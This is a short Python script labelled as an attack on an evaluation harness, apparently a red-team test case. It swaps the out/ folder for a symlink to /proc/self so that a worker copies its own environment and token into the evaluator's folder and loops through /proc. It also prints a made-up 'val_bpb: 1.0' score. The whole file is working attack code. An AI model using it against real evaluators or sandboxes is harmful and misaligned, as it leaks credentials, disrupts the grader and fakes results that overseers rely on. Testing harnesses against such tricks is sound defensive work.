"""Attack: replace out/ by a symbolic link to /proc/self: the worker that walks it reads its
own environment and command line (its token) into the evaluator's folder, and gets lost in
/proc's endless tree."""

import os
import shutil

shutil.rmtree("out")
os.symlink("/proc/self", "out")
print("out/ now leads to /proc/self")
print("---")
print("val_bpb: 1.0")
